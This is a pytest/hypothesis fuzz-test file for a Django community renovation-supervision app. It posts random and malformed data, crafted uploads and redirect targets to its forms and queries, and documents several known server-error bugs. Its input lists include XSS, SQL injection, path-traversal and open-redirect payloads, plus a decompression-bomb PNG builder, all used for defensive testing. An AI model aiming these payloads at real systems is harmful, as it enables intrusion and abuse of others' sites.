"""Fuzzing with hypothesis: random text, numbers, dates and files posted to every form and every
query string people (or scripts) can reach — never a server error — and XSS payloads in every
text field a person types, shown only escaped on every page that shows them.

Each example runs in a savepoint that is rolled back, so examples do not pile up rows. ``-s``
shows the summary: ``FUZZ: examples=…, server_errors=0``. The whole file runs in about a minute.
"""

from __future__ import annotations

import io
import logging
import re
import zipfile
from collections import Counter
from datetime import date, timedelta

import pytest
from django.conf import settings as settings_
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.utils import timezone
from django.utils.http import url_has_allowed_host_and_scheme
from openpyxl import load_workbook
from PIL import Image

from supervision import residents, services
from supervision.forms import STEP_FORMS
from supervision.models import (
    Consultation,
    ConsultationItem,
    Department,
    Household,
    Issue,
    Patrol,
    ResponseTemplate,
)

from .factories import PASSWORD, World, image_file

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

S = Issue.Status
TALLY: Counter = Counter()
# Some bugs only show on PostgreSQL (text there cannot hold NUL): their tests xfail there only.
ON_PG = "postgresql" in settings_.DATABASES["default"]["ENGINE"]


def fuzz(examples: int):
    """Hypothesis settings for a test that uses function-scoped fixtures: the database and the
    clients are set up once per test, each example rolls back what it did."""
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,  # no .hypothesis/ directory in the checkout
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


@pytest.fixture(scope="module", autouse=True)
def _summary():
    yield
    print(
        f"\nFUZZ: examples={TALLY['examples']}, requests={TALLY['requests']}, "
        f"server_errors={TALLY['server_errors']}, known_bug_hits={TALLY['known_bug_hits']}"
    )


@pytest.fixture(autouse=True)
def _quiet_refusals():
    """Hundreds of 400s and 404s are expected here: log only server errors."""
    logger = logging.getLogger("django.request")
    level = logger.level
    logger.setLevel(logging.ERROR)
    yield
    logger.setLevel(level)


# --- values ------------------------------------------------------------------------------------

ODD = [
    "",
    " ",
    "\r\n",
    "0",
    "-1",
    "00",
    "9" * 30,
    "1e309",
    "NaN",
    "inf",
    "²",
    "１２３",
    "٣",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "2026-13-01",
    "2026-1",
    "1-1",
    "99999999999999999999-1",
    "2026-99999999999999999999",
    "2026-11-01T00:00:00+99:00",
    "true",
    "on",
    "null",
    "[]",
    "{}",
    "' OR 1=1 --",
    "%00",
    "../../etc/passwd",
    "\u202e",
    "\ufeff",
    "𠀀" * 10,
    "x" * 5000,
    "<script>alert(1)</script>",
    "//evil.example/",
    "/\\evil.example",
    "javascript:alert(1)",
    "http://evil.example/",
]
# NUL is answered 400 before any view (RejectNulMiddleware); test_nul_is_refused_everywhere
# covers it, so the random text here leaves it out.
TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=120
)
NUMBERS = st.one_of(
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)
DATES = st.one_of(
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    st.datetimes().map(lambda d: d.isoformat()),
    st.tuples(st.integers(-(10**25), 10**25), st.integers(-(10**25), 10**25)).map(
        lambda t: f"{t[0]}-{t[1]}"
    ),
    st.tuples(st.integers(-100, 10**6), st.integers(-5, 40), st.integers(-5, 40)).map(
        lambda t: f"{t[0]}-{t[1]:02d}-{t[2]:02d}"
    ),
)
ANYTHING = st.one_of(st.sampled_from(ODD), st.sampled_from(ODD), TEXT, NUMBERS, DATES)


def maybe(value_strategy):
    """A field that is sometimes absent."""
    return st.one_of(st.none(), value_strategy)


def drop_none(data: dict) -> dict:
    return {k: v for k, v in data.items() if v is not None}


# --- files -------------------------------------------------------------------------------------

NAMES = st.one_of(
    st.sampled_from(["photo.jpg", "a.png", "../../etc/passwd", "x.svg", "noext", "照片.heic"]),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters='"\\'),
        min_size=1,
        max_size=60,
    ),
)
CONTENT_TYPES = st.sampled_from(
    ["image/jpeg", "image/png", "text/html", "image/svg+xml", "application/octet-stream"]
)


def _image(fmt: str, width: int, height: int, gps=None) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", (width, height), (30, 120, 200))
    kwargs = {}
    if gps is not None and fmt == "JPEG":
        exif = Image.Exif()
        lat, lon = gps
        exif[0x8825] = {
            1: "N" if lat >= 0 else "S",
            2: (abs(lat), 0.0, 0.0),
            3: "E" if lon >= 0 else "W",
            4: (abs(lon), 0.0, 0.0),
        }
        kwargs["exif"] = exif
    image.save(out, fmt, **kwargs)
    return out.getvalue()


def _png_claiming(width: int, height: int) -> bytes:
    """A PNG header that claims a huge image (a decompression bomb) with no pixels behind it."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")


GPS = st.tuples(
    st.floats(min_value=-1e6, max_value=1e6, allow_nan=False),
    st.floats(min_value=-1e6, max_value=1e6, allow_nan=False),
)
IMAGE_BYTES = st.one_of(
    st.binary(max_size=512),
    st.builds(
        _image,
        st.sampled_from(["JPEG", "PNG", "WEBP", "GIF", "BMP", "TIFF"]),
        st.integers(1, 48),
        st.integers(1, 48),
    ),
    st.builds(_image, st.just("JPEG"), st.integers(1, 16), st.integers(1, 16), GPS),
    st.builds(
        lambda data, cut: data[:cut],
        st.builds(_image, st.sampled_from(["JPEG", "PNG", "WEBP"]), st.just(40), st.just(30)),
        st.integers(0, 200),
    ),
    st.builds(_png_claiming, st.integers(1, 2**31 - 1), st.integers(1, 2**31 - 1)),
)


def upload(data: bytes, name: str, kind: str) -> SimpleUploadedFile:
    """A file as a browser (or anyone) sends it: the name too is theirs, "..", "." included
    (Django refuses to make such an UploadedFile here, so the name is set behind its back)."""
    file = SimpleUploadedFile("upload", data, content_type=kind)
    file._name = name
    return file


FILES = st.builds(
    upload, IMAGE_BYTES, NAMES | st.sampled_from(["..", ".", "a/..", "/"]), CONTENT_TYPES
)
SOME_FILES = st.lists(FILES, max_size=3)


# --- the scene and the requests ----------------------------------------------------------------


class Fuzzer:
    """The world, an issue in each state, a consultation, and one logged-in client per role."""

    ROLES = ("anon", "alice", "bob", "handler", "other_staff", "builder", "bureau")

    def __init__(self, world: World):
        self.world = world
        cache.clear()
        world.project.departments.add(world.office)
        self.issues = {
            S.SUBMITTED: world.submit(title="楼道灯不亮"),
            S.ACCEPTED: world.issue_in(S.ACCEPTED, title="外墙渗水"),
            S.IN_PROGRESS: world.issue_in(S.IN_PROGRESS, title="雨水管脱落"),
            S.RECTIFIED: world.issue_in(S.RECTIFIED, title="路面坑洼"),
            S.REJECTED: world.issue_in(S.REJECTED, title="重复的问题"),
            S.ANSWERED: world.issue_in(S.ANSWERED, title="加装电梯"),
            "theirs": world.submit(reporter=world.bob, project=world.other_project, title="积水"),
        }
        today = timezone.localdate()
        self.consultation = Consultation.objects.create(
            project=world.project,
            title="改造意愿征询",
            opens_on=today - timedelta(days=2),
            closes_on=today + timedelta(days=5),
        )
        self.items = [
            ConsultationItem.objects.create(
                consultation=self.consultation,
                kind=ConsultationItem.Kind.SCOPE,
                area="building",
                text="外墙翻新",
                options="真石漆\n普通涂料",
            ),
            ConsultationItem.objects.create(
                consultation=self.consultation,
                kind=ConsultationItem.Kind.SCOPE,
                area="roads",
                text="增设停车位",
                position=1,
            ),
        ]
        self.households = [
            Household.objects.create(
                consultation=self.consultation,
                building="1幢",
                unit="1单元",
                room=str(101 + i),
                code=residents.new_code(),
            )
            for i in range(3)
        ]
        self.clients = {}
        for role in self.ROLES:
            client = Client(raise_request_exception=False)
            if role != "anon":
                client.force_login(getattr(world, role))
            self.clients[role] = client

    def send(self, role: str, method: str, url: str, data=None, known_bug=None, **extra):
        """One request, rolled back; a 5xx fails the test unless ``known_bug`` says it is one
        of the bugs this file marks (then it is counted, and its own xfail test holds it)."""
        (response,) = self.send_in_turn(role, [(method, url, data)], known_bug, **extra)
        return response

    def send_in_turn(self, role: str, requests: list[tuple], known_bug=None, **extra) -> list:
        """Several requests, ``(method, url, data)``, rolled back together: what one keeps in
        the session (a voter's household) is there for the next, and gone afterwards."""
        client = self.clients[role]
        responses = []
        with transaction.atomic():
            for method, url, data in requests:
                TALLY["requests"] += 1
                if method == "POST":
                    response = client.post(url, data or {}, **extra)
                else:
                    response = client.get(url, data or {}, **extra)
                responses.append(response)
                if response.status_code >= 500:
                    break
            transaction.set_rollback(True)
        for (method, url, data), response in zip(requests, responses, strict=False):
            if response.status_code >= 500:
                if known_bug is not None and known_bug:
                    TALLY["known_bug_hits"] += 1
                    return responses
                TALLY["server_errors"] += 1
                pytest.fail(f"{role} {method} {url} {data!r}: {response.status_code}")
        return responses


@pytest.fixture
def fuzzer(world) -> Fuzzer:
    return Fuzzer(world)


def example():
    TALLY["examples"] += 1


def assert_local(location: str) -> None:
    """A redirect after a form never leaves the site (relative addresses are fine)."""
    assert url_has_allowed_host_and_scheme(location, allowed_hosts={"testserver"}), location
    assert not location.lower().lstrip().startswith(("javascript:", "data:")), location


ROLE = st.sampled_from(Fuzzer.ROLES)
LOGGED_IN = st.sampled_from(Fuzzer.ROLES[1:])
STAFF_OR_BUREAU = st.sampled_from(("handler", "other_staff", "builder", "bureau"))


# --- filing, steps, login ----------------------------------------------------------------------


@fuzz(40)
@given(data=st.data())
def test_fuzz_filing_form(fuzzer, data):
    example()
    w = fuzzer.world
    form = drop_none(
        {
            "token": data.draw(maybe(ANYTHING)),
            "project": data.draw(
                st.one_of(st.sampled_from([w.project.pk, w.other_project.pk]), ANYTHING)
            ),
            "category": data.draw(st.one_of(st.sampled_from(Issue.Category.values), ANYTHING)),
            "urgency": data.draw(maybe(st.one_of(st.sampled_from(Issue.Urgency.values), TEXT))),
            "title": data.draw(maybe(ANYTHING)),
            "description": data.draw(maybe(ANYTHING)),
            "building": data.draw(maybe(ANYTHING)),
            "unit": data.draw(maybe(ANYTHING)),
            "location": data.draw(maybe(ANYTHING)),
            "households": data.draw(maybe(st.one_of(NUMBERS, ANYTHING))),
            "area": data.draw(maybe(ANYTHING)),
            "share_position": data.draw(maybe(st.sampled_from(["on", "1", "", "x"]))),
            "next": data.draw(maybe(ANYTHING)),
            "status": data.draw(maybe(ANYTHING)),
        }
    )
    photos = data.draw(SOME_FILES)
    if photos:
        form["photos"] = photos
    role = data.draw(st.sampled_from(["alice", "alice", "bob", "handler", "anon"]))
    response = fuzzer.send(role, "POST", "/issues/new/", form)
    assert response.status_code in (200, 302, 400, 403, 409), response.status_code
    if response.status_code == 302:
        assert_local(response["Location"])


@fuzz(90)
@given(data=st.data())
def test_fuzz_every_step(fuzzer, data):
    example()
    w = fuzzer.world
    departments = list(Department.objects.values_list("pk", flat=True))
    step = data.draw(st.sampled_from(sorted(STEP_FORMS)))
    issue = fuzzer.issues[data.draw(st.sampled_from(sorted(fuzzer.issues, key=str)))]
    role = data.draw(LOGGED_IN)
    form = drop_none(
        {
            "text": data.draw(maybe(ANYTHING)),
            "reason": data.draw(maybe(ANYTHING)),
            "deadline": data.draw(maybe(DATES | ANYTHING)),
            "until": data.draw(maybe(DATES | ANYTHING)),
            "department": data.draw(maybe(st.sampled_from(departments) | ANYTHING)),
            "rating": data.draw(maybe(st.sampled_from(Issue.Rating.values) | ANYTHING)),
            "next": data.draw(
                maybe(st.sampled_from(["/panel/", "/panel/supervision/issue/", "//evil.example"]))
                | maybe(ANYTHING)
            ),
            "status": data.draw(maybe(st.sampled_from(S.values))),
            "reporter": data.draw(maybe(st.sampled_from([w.bob.pk, w.alice.pk]))),
        }
    )
    photos = data.draw(SOME_FILES)
    if photos:
        form["photos"] = photos
    extra = {}
    if data.draw(st.booleans()):
        extra["HTTP_X_REQUESTED_WITH"] = "XMLHttpRequest"
    response = fuzzer.send(role, "POST", f"/issues/{issue.pk}/{step}/", form, **extra)
    assert response.status_code in (200, 302, 400, 403, 404, 409), response.status_code
    if response.status_code == 302:
        assert_local(response["Location"])
    if "X-Location" in response:
        assert_local(response["X-Location"])


@fuzz(30)
@given(
    role=st.sampled_from(["anon", "anon", "alice"]),
    username=st.one_of(st.sampled_from(["alice", "anyang", "13900000001"]), ANYTHING),
    password=st.one_of(st.just(PASSWORD), ANYTHING),
    next_=maybe(ANYTHING | st.sampled_from(["//evil.example/", "/panel/", "https://evil.example"])),
    # REMOTE_ADDR comes from the server (or the trusted proxy): always an address.
    address=st.sampled_from(["10.0.0.1", "10.0.0.2", "::1"]),
)
def test_fuzz_login_form(fuzzer, role, username, password, next_, address):
    example()
    cache.clear()  # the per-address failure counter
    data = drop_none({"username": username, "password": password, "next": next_})
    response = fuzzer.send(role, "POST", "/accounts/login/", data, REMOTE_ADDR=address)
    assert response.status_code in (200, 302, 400, 403, 429), response.status_code
    if response.status_code == 302:
        assert_local(response["Location"])


REDIRECT_NAME_BUG = (
    "BUG: supervision/views.py toggle_elder_mode() passes the posted ?next= to "
    "django.shortcuts.redirect(), which treats a string without '/' or '.' as a URL pattern "
    "name: POST /elder-mode/ with next=abc (any such word that is not a URL name) raises "
    "NoReverseMatch → 500 (and next=logout sends to /accounts/logout/). Fix: "
    "HttpResponseRedirect(target) instead of redirect(target), or fall back to '/' unless the "
    "target starts with '/'. accounts/two_factor.py login_code() has the same redirect(next_url) "
    "(next from the login form, see the test below)."
)


def names_no_page(target: str | None) -> bool:
    """The input class of REDIRECT_NAME_BUG: a safe ``next`` that redirect() takes for a URL
    name and cannot reverse."""
    from django.urls import NoReverseMatch, reverse

    target = target or "/"
    if not url_has_allowed_host_and_scheme(target, allowed_hosts={"testserver"}):
        return False
    if "/" in target or "." in target:
        return False
    try:
        reverse(target)
    except NoReverseMatch:
        return True
    return False


def test_elder_mode_with_a_word_as_next_is_not_a_server_error(db, client):
    client.raise_request_exception = False
    response = client.post("/elder-mode/", {"next": "abc"})
    assert response.status_code == 302 and response["Location"] in ("/", "abc")


def test_second_factor_with_a_word_as_next_is_not_a_server_error(world, client):
    from django_otp.oath import totp
    from django_otp.plugins.otp_totp.models import TOTPDevice

    client.raise_request_exception = False
    cache.clear()
    device = TOTPDevice.objects.create(user=world.bureau, name="phone", confirmed=True)
    response = client.post(
        "/accounts/login/?next=abc", {"username": world.bureau.username, "password": PASSWORD}
    )
    assert response.status_code == 302 and response["Location"].endswith("/accounts/login/otp/")
    code = totp(device.bin_key, device.step, device.t0, device.digits, device.drift)
    response = client.post("/accounts/login/otp/", {"code": f"{code:06d}"})
    assert response.status_code == 302


@fuzz(25)
@given(
    role=ROLE,
    next_=maybe(ANYTHING | st.sampled_from(["//evil.example/", "/\\evil.example", "/issues/"])),
    code=ANYTHING | st.integers(0, 999999).map(lambda n: f"{n:06d}"),
    elder=st.sampled_from(["", "1", "0"]),
)
def test_fuzz_elder_mode_and_second_factor(fuzzer, role, next_, code, elder):
    example()
    fuzzer.clients[role].cookies["elder"] = elder
    known = names_no_page(next_)
    response = fuzzer.send(
        role, "POST", "/elder-mode/", drop_none({"next": next_}), known_bug=known
    )
    if not known:
        assert response.status_code == 302
        assert_local(response["Location"])
    response = fuzzer.send(role, "POST", "/accounts/login/otp/", {"code": code})
    assert response.status_code == 302  # no password step pending: back to the login
    response = fuzzer.send(role, "POST", "/accounts/otp/setup/", {"code": code})
    assert response.status_code in (200, 302, 400, 403)
    fuzzer.clients[role].cookies.pop("elder", None)


# --- query strings -----------------------------------------------------------------------------

ISSUE_FILTERS = ["q", "project", "subdistrict", "status", "category", "department", "overdue"]


@fuzz(40)
@given(data=st.data())
def test_fuzz_issue_list_filters(fuzzer, data):
    example()
    query = drop_none({name: data.draw(maybe(ANYTHING)) for name in [*ISSUE_FILTERS, "mine"]})
    query["page"] = data.draw(maybe(ANYTHING)) or ""
    role = data.draw(LOGGED_IN)
    response = fuzzer.send(role, "GET", "/issues/", query)
    assert response.status_code == 200


CURSORS = st.one_of(
    ANYTHING,
    st.tuples(st.integers(-(10**30), 10**30), st.integers(-(10**30), 10**30)).map(
        lambda t: f"{t[0]}-{t[1]}"
    ),
    st.tuples(st.integers(0, 2**63), st.integers(0, 2**63)).map(lambda t: f"{t[0]}-{t[1]}"),
)


@fuzz(40)
@given(role=LOGGED_IN, after=maybe(CURSORS), before=maybe(CURSORS))
def test_fuzz_feed_cursors(fuzzer, role, after, before):
    example()
    response = fuzzer.send(role, "GET", "/feed/", drop_none({"after": after, "before": before}))
    assert response.status_code == 200


PRESETS = st.sampled_from(["30", "90", "365", "all"])


@fuzz(30)
@given(
    role=STAFF_OR_BUREAU,
    start=maybe(DATES | ANYTHING),
    end=maybe(DATES | ANYTHING),
    preset=maybe(PRESETS | ANYTHING),
)
def test_fuzz_dashboard_period(fuzzer, role, start, end, preset):
    example()
    query = drop_none({"start": start, "end": end, "preset": preset})
    assert fuzzer.send(role, "GET", "/dashboard/", query).status_code == 200


@fuzz(12)
@given(
    role=STAFF_OR_BUREAU,
    start=maybe(DATES | ANYTHING),
    end=maybe(DATES | ANYTHING),
    preset=maybe(PRESETS | ANYTHING),
)
def test_fuzz_dashboard_export_period(fuzzer, role, start, end, preset):
    example()
    query = drop_none({"start": start, "end": end, "preset": preset})
    assert fuzzer.send(role, "GET", "/dashboard/export.xlsx", query).status_code == 200


MONTH_BUG = (
    "BUG: supervision/dashboard.py monthly_report() builds date(year, month, 1) before checking "
    "the year's range and catches only ValueError: ?month=99999999999-1 (or a month beyond a C "
    "int) raises OverflowError → 500. Fix: catch (ValueError, OverflowError), or check "
    "2000 <= year <= 2100 and 1 <= month <= 12 before calling date()."
)


def month_overflows(month: str | None) -> bool:
    """The input class of MONTH_BUG: two integer parts, one beyond what date() takes."""
    try:
        year, number = (int(part) for part in (month or "").split("-"))
    except ValueError:
        return False
    return any(abs(n) > 2**31 - 1 for n in (year, number))


MONTHS = st.one_of(
    ANYTHING,
    st.sampled_from(["99999999999-1", "2026-99999999999", "1-99999999999999999999", "2026-0"]),
    st.tuples(st.integers(1990, 2110), st.integers(-2, 14)).map(lambda t: f"{t[0]}-{t[1]}"),
    st.tuples(st.integers(-(10**20), 10**20), st.integers(-(10**20), 10**20)).map(
        lambda t: f"{t[0]}-{t[1]}"
    ),
)


@fuzz(30)
@given(role=STAFF_OR_BUREAU, month=maybe(MONTHS))
def test_fuzz_monthly_report_month(fuzzer, role, month):
    example()
    response = fuzzer.send(
        role,
        "GET",
        "/dashboard/report/",
        drop_none({"month": month}),
        known_bug=month_overflows(month),
    )
    assert response.status_code == 200 or month_overflows(month)


@pytest.mark.parametrize("month", ["99999999999-1", "2026-99999999999"])
def test_monthly_report_with_a_huge_number_is_not_a_server_error(world, client, month):
    client.raise_request_exception = False
    client.force_login(world.bureau)
    assert client.get("/dashboard/report/", {"month": month}).status_code == 200


@fuzz(30)
@given(role=STAFF_OR_BUREAU, day=maybe(DATES | ANYTHING))
def test_fuzz_digest_date(fuzzer, role, day):
    example()
    assert fuzzer.send(role, "GET", "/digest/", drop_none({"date": day})).status_code == 200


# --- consultations and patrols -----------------------------------------------------------------


@fuzz(40)
@given(data=st.data())
def test_fuzz_consultation_code_and_ballot(fuzzer, data):
    """Codes typed into the consultation page's field (POST only), then a ballot: a household's
    code opens its ballot, anything else opens nothing; a code in the address opens nothing."""
    example()
    cache.clear()  # wrong codes are counted per address
    consultation = fuzzer.consultation
    household = data.draw(st.sampled_from(fuzzer.households))
    code = data.draw(st.one_of(st.just(household.code), st.just(household.code.lower()), ANYTHING))
    genuine = residents.normalise_code(code) == household.code
    role = data.draw(ROLE)
    url = f"/consultations/{consultation.pk}/"
    if data.draw(st.booleans()):
        # Codes travel in a POST body only: one in the query string opens no ballot.
        response = fuzzer.send(role, "GET", url, {"code": code})
        assert response.status_code == 200
        assert b'id="ballot-heading"' not in response.content
        return
    ballot = {}
    for item in fuzzer.items:
        ballot[f"item-{item.pk}"] = data.draw(st.sampled_from(["yes", "no"]) | ANYTHING)
        ballot[f"option-{item.pk}"] = data.draw(st.sampled_from(["真石漆", ""]) | ANYTHING)
    ballot[f"item-{data.draw(NUMBERS)}"] = data.draw(ANYTHING)  # an item of no consultation
    if data.draw(st.booleans()):
        ballot["code"] = code  # a script may post the code and the ballot at once
    # 去投票 with the code, the ballot the page then shows, and the page once more.
    typed, voted, page = fuzzer.send_in_turn(
        role, [("POST", url, {"code": code}), ("POST", url, ballot), ("GET", url, None)]
    )
    if genuine:
        assert typed.status_code == 302 and typed["Location"] == url
    else:
        assert typed.status_code in (400, 429)
    assert voted.status_code in (200, 302, 400, 409, 429)
    if voted.status_code == 302:
        assert_local(voted["Location"])
    assert page.status_code == 200
    assert (b'id="ballot-heading"' in page.content) == genuine  # the session remembers it


@fuzz(20)
@given(data=st.data())
def test_fuzz_paper_ballot(fuzzer, data):
    example()
    consultation = fuzzer.consultation
    form = {"household": data.draw(st.sampled_from([h.pk for h in fuzzer.households]) | ANYTHING)}
    for item in fuzzer.items:
        form[f"item-{item.pk}"] = data.draw(st.sampled_from(["yes", "no"]) | ANYTHING)
        form[f"option-{item.pk}"] = data.draw(ANYTHING)
    role = data.draw(st.sampled_from(["alice", "bob", "handler"]))
    method = data.draw(st.sampled_from(["GET", "POST"]))
    response = fuzzer.send(role, method, f"/consultations/{consultation.pk}/paper/", form)
    assert response.status_code in (200, 302, 400, 403, 404, 409)  # 404: not their project


@fuzz(30)
@given(data=st.data())
def test_fuzz_patrol_form(fuzzer, data):
    example()
    w = fuzzer.world
    form = {
        "project": data.draw(st.sampled_from([w.project.pk, w.other_project.pk]) | ANYTHING),
        "note": data.draw(ANYTHING),
    }
    for value in Patrol.Check.values:
        form[f"check-{value}"] = data.draw(st.sampled_from(["ok", "problem"]) | ANYTHING)
        form[f"note-{value}"] = data.draw(maybe(ANYTHING)) or ""
    chosen = data.draw(st.sampled_from(Patrol.Check.values))
    photos = data.draw(st.lists(FILES, max_size=2))
    if photos:
        form[f"photos-{chosen}"] = photos
    role = data.draw(st.sampled_from(["alice", "alice", "bob", "handler"]))
    response = fuzzer.send(role, "POST", "/patrols/new/", form)
    assert response.status_code in (200, 302, 400, 403)


@fuzz(20)
@given(role=LOGGED_IN, days=maybe(ANYTHING | NUMBERS), project=maybe(ANYTHING))
def test_fuzz_patrol_lists(fuzzer, role, days, project):
    example()
    response = fuzzer.send(role, "GET", "/patrols/stale/", drop_none({"days": days}))
    assert response.status_code in (200, 403)
    response = fuzzer.send(role, "GET", "/patrols/", drop_none({"project": project, "mine": days}))
    assert response.status_code == 200


# --- the panel ---------------------------------------------------------------------------------

PANEL_FILTERS = {
    "issue": [
        "status__exact",
        "category__exact",
        "overdue",
        "escalated",
        "urgency__exact",
        "project__id__exact",
        "project__neighbourhood__subdistrict__id__exact",
        "department__id__exact",
    ],
    "project": ["year__exact", "status__exact", "neighbourhood__subdistrict__id__exact"],
    "extensionrequest": ["status__exact"],
    "consultation": [],
    "supervisor": ["is_active__exact", "neighbourhood__subdistrict__id__exact"],
}


NUL_FILTER_BUG = (
    "BUG (PostgreSQL only): a NUL character in a panel list filter value (e.g. "
    "/panel/supervision/issue/?status__exact=%00, also category__exact, urgency__exact, "
    "project status, extension status, the bureau's department/delivery/routing-rule filters) "
    "or in the autocomplete term (/panel/autocomplete/?term=%00…) reaches the query: psycopg "
    "raises DataError 'PostgreSQL text fields cannot contain NUL (0x00) bytes' → 500. The search "
    "box (?q=) is safe: Django validates it. Fix: a middleware (e.g. next to "
    "SecurityHeadersMiddleware in supervision/security.py) answering 400 when a GET/POST value "
    "contains '\\x00', or PanelSite.admin_view rejecting such query strings."
)


@fuzz(45)
@given(data=st.data())
def test_fuzz_panel_changelists(fuzzer, data):
    example()
    model = data.draw(st.sampled_from(sorted(PANEL_FILTERS)))
    query = {"q": data.draw(ANYTHING)}
    for name in PANEL_FILTERS[model]:
        value = data.draw(maybe(ANYTHING))
        if value is not None:
            query[name] = value
    known = ON_PG and any("\x00" in query[name] for name in PANEL_FILTERS[model] if name in query)
    for name in ("o", "p", "all", "e"):
        value = data.draw(maybe(ANYTHING))
        if value is not None:
            query[name] = value
    if data.draw(st.booleans()):
        query[data.draw(st.sampled_from(["reporter__password", "title__regex", "x"]))] = "a"
    role = data.draw(STAFF_OR_BUREAU)
    response = fuzzer.send(role, "GET", f"/panel/supervision/{model}/", query, known_bug=known)
    assert response.status_code in (200, 302, 400, 403) or known, response.status_code


@fuzz(20)
@given(
    role=STAFF_OR_BUREAU,
    term=ANYTHING,
    model=st.sampled_from(["extensionrequest", "consultation", "issue"]),
    field=st.sampled_from(["issue", "project", "x"]),
)
def test_fuzz_panel_autocomplete(fuzzer, role, term, model, field):
    example()
    query = {"app_label": "supervision", "model_name": model, "field_name": field, "term": term}
    known = ON_PG and "\x00" in term
    response = fuzzer.send(role, "GET", "/panel/autocomplete/", query, known_bug=known)
    assert response.status_code in (200, 403, 404) or known, response.status_code


@pytest.mark.parametrize(
    "role, url",
    [
        ("handler", "/panel/supervision/issue/?status__exact=%00"),
        ("handler", "/panel/supervision/issue/?category__exact=a%00"),
        ("handler", "/panel/supervision/project/?status__exact=%00"),
        ("handler", "/panel/supervision/extensionrequest/?status__exact=%00"),
        ("bureau", "/panel/supervision/delivery/?channel__exact=%00"),
        (
            "handler",
            "/panel/autocomplete/?app_label=supervision&model_name=extensionrequest"
            "&field_name=issue&term=%00",
        ),
    ],
)
def test_a_nul_character_in_a_panel_filter_is_not_a_server_error(world, client, role, url):
    client.raise_request_exception = False
    client.force_login(getattr(world, role))
    assert client.get(url).status_code < 500


def _csv(rows: list[list[str]], encoding: str) -> bytes:
    text = "\n".join(",".join(row) for row in rows)
    return text.encode(encoding, errors="replace")


def _xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    for row in rows:  # what Excel can hold: no control characters
        book.active.append(
            [ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row]
        )
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


CELL = st.one_of(st.sampled_from(["1幢", "2单元", "101", "", "=1+1", "楼栋"]), TEXT, NUMBERS)
ROWS = st.lists(st.lists(CELL, max_size=5), max_size=12)
IMPORT_FILES = st.one_of(
    FILES,
    st.builds(
        upload,
        st.builds(_csv, ROWS, st.sampled_from(["utf-8", "gbk", "utf-16"])),
        st.sampled_from(["住户.csv", "list.CSV", "x.txt"]),
        st.just("text/csv"),
    ),
    st.builds(
        upload,
        st.builds(
            _xlsx,
            st.lists(st.lists(st.one_of(CELL, st.integers(), st.none()), max_size=5), max_size=8),
        ),
        st.sampled_from(["住户.xlsx", "a.xls", "b.csv"]),
        st.just("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ),
)


IMPORT_NUL_BUG = (
    "BUG (PostgreSQL only): supervision/residents.py _rows_from_upload()/import_households() keep "
    "a NUL character of a CSV cell (e.g. a line '1幢,1单元,\\x00', or a UTF-16 file read as "
    "gb18030): Household.objects.bulk_create() fails with DataError 'PostgreSQL text fields "
    "cannot contain NUL (0x00) bytes' → 500 on /panel/supervision/consultation/<id>/import/. "
    "Fix: reject the row (report it like an empty or too long one) when a cell contains '\\x00', "
    "or strip NULs when reading the file."
)


IMPORT_CSV_BUG = (
    "BUG: supervision/residents.py _rows_from_upload() reads a CSV with "
    "csv.reader(io.StringIO(text)) and does not catch csv.Error: a file with a bare carriage "
    "return (old Mac line ends, e.g. b'1幢,1单元,101\\r1幢,1单元,102') raises 'new-line character "
    "seen in unquoted field' → 500 on /panel/supervision/consultation/<id>/import/ (so would a "
    "field over csv.field_size_limit()). Fix: io.StringIO(text, newline='') and turn csv.Error "
    "into WorkflowError(…, status_code=400)."
)


def csv_text(upload) -> str | None:
    """The text of an uploaded CSV as the import reads it; None for an Excel file or bytes it
    cannot decode."""
    upload.seek(0)
    data = upload.read()
    upload.seek(0)
    if data[:2] == b"PK":
        return None
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    return None


def holds_nul(upload) -> bool:
    """The input class of IMPORT_NUL_BUG: a CSV whose text has a NUL character."""
    return "\x00" in (csv_text(upload) or "")


def breaks_csv(upload) -> bool:
    """The input class of IMPORT_CSV_BUG: text the csv module refuses to read."""
    import csv

    text = csv_text(upload)
    if text is None:
        return False
    try:
        list(csv.reader(io.StringIO(text)))
    except csv.Error:
        return True
    return False


@fuzz(15)
@given(file=IMPORT_FILES)
def test_fuzz_household_import(fuzzer, file):
    example()
    url = f"/panel/supervision/consultation/{fuzzer.consultation.pk}/import/"
    known = (ON_PG and holds_nul(file)) or breaks_csv(file)
    response = fuzzer.send("handler", "POST", url, {"file": file}, known_bug=known)
    assert response.status_code == 200 or known


def test_a_csv_with_old_mac_line_ends_is_not_a_server_error(fuzzer):
    url = f"/panel/supervision/consultation/{fuzzer.consultation.pk}/import/"
    file = upload("1幢,1单元,201\r1幢,1单元,202\r".encode(), "住户.csv", "text/csv")
    response = fuzzer.clients["handler"].post(url, {"file": file})
    assert response.status_code == 200


def test_a_nul_character_in_an_imported_household_is_not_a_server_error(fuzzer):
    url = f"/panel/supervision/consultation/{fuzzer.consultation.pk}/import/"
    file = upload("1幢,1单元,\x00\n2幢,1单元,102\n".encode(), "住户.csv", "text/csv")
    response = fuzzer.clients["handler"].post(url, {"file": file})
